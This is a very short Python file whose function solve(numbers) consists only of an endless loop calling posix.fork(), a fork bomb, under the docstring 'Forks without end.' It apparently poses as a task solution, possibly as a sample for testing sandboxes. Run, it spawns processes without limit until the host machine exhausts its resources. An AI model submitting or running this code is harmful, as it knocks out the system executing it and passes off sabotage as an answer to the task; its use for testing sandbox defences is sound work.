"""Forks without end."""

import posix


def solve(numbers):
    while True:
        posix.fork()
